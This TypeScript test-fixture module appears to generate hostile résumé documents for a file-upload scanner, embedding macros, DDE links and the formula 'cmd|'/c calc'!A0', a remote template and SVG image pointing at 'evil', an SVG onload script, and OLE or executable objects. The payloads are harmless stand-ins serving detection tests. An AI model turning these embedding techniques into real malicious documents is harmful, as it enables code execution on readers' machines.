import { buildCfb } from '../build-cfb.ts';
import { buildDoc } from '../build-doc.ts';
import { buildDocx, buildXlsx, type DocxOptions } from '../build-docx.ts';
import { buildPdf } from '../build-pdf.ts';
import { type HostileCv, program } from '../hostile-cv.ts';
import { docxs, withTemplate } from './docxs.ts';

export function embedded(): HostileCv[] {
  const macroBook = buildXlsx({
    main: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    relationships: [
      { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
    ],
    parts: [{ name: 'xl/vbaProject.bin', content: 'x' }],
  });
  const oldMacros = buildXlsx({
    relationships: [
      {
        type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
        target: 'macrosheets/sheet1.xml',
      },
    ],
  });
  const dde = buildXlsx({
    relationships: [{ type: 'externalLink', target: 'externalLinks/externalLink1.xml' }],
  });
  const formula = buildXlsx({
    relationships: [{ type: 'worksheet', target: 'worksheets/sheet1.xml' }],
    parts: [
      {
        name: 'xl/worksheets/sheet1.xml',
        content:
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>cmd|\'/c calc\'!A0</f></c></row></sheetData></worksheet>',
      },
    ],
  });
  const macroDoc = buildDocx({ documentType: 'application/vnd.ms-word.document.macroEnabled.main+xml' });
  const packaged = (
    content: Buffer | string,
    name = 'word/embeddings/Microsoft_Excel_Sheet.xlsx',
    kind = 'package',
  ): DocxOptions => ({
    relationships: [{ type: kind, target: name.replace('word/', '') }],
    parts: [{ name, content }],
    defaults: {
      xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bin: 'application/vnd.openxmlformats-officedocument.oleObject',
      jpg: 'image/jpeg',
    },
  });
  const inObject = (content: Buffer) => packaged(content, 'word/embeddings/oleObject1.bin', 'oleObject');
  const inPicture = (content: Buffer | string) => packaged(content, 'word/media/image1.jpg', 'image');
  const native = buildCfb([{ name: '\u0001Ole10Native', content: program }]);
  const family = 'an object inside';
  return [
    ...docxs(
      family,
      'macro',
      packaged(macroBook),
      packaged(oldMacros),
      packaged(macroDoc, 'word/embeddings/a.docx'),
      packaged(buildDocx(packaged(macroBook)), 'word/embeddings/a.docx'),
      inObject(buildDoc({ parts: [{ name: 'Macros', children: [] }] })),
    ),
    ...docxs(
      family,
      'fetches',
      packaged(dde),
      packaged(buildDocx(withTemplate('//evil/x', 'External')), 'word/embeddings/a.docx'),
      inPicture(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://evil/x"/></svg>',
      ),
    ),
    ...docxs(family, 'field', packaged(formula)),
    ...docxs(family, 'script', inPicture('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
    ...docxs(
      family,
      'embeddedObject',
      packaged(program),
      inObject(program),
      inObject(buildPdf()),
      inObject(native),
      inObject(buildCfb([{ name: 'Equation Native' }], '02ce020000000000c000000000000046')),
      inObject(buildCfb([{ name: 'Package', content: macroDoc }])),
      packaged(native, 'word/media/image1.jpg', 'oleObject'),
      inPicture(native),
      inPicture(program),
      inPicture('<html><script>1</script></html>'),
      { parts: [{ name: 'word/media/run.exe', content: program }] },
      { parts: [{ name: 'customXml/item1.bin', content: buildCfb([{ name: 'Macros' }]) }] },
    ),
    ...docxs(
      'a chunk of another format',
      'embeddedObject',
      {
        body: '<w:altChunk r:id="rId1"/>',
        relationships: [{ type: 'aFChunk', target: 'chunk.rtf' }],
        parts: [{ name: 'word/chunk.rtf', content: '{\\rtf1}' }],
      },
      {
        relationships: [{ type: 'aFChunk', target: 'chunk.xml' }],
        parts: [{ name: 'word/chunk.xml', content: '<a/>' }],
      },
      { body: '<w:altChunk/>' },
    ),
    ...docxs('a chunk of another format', 'fetches', { body: '<w:subDoc r:id="rId1"/>' }),
  ];
}
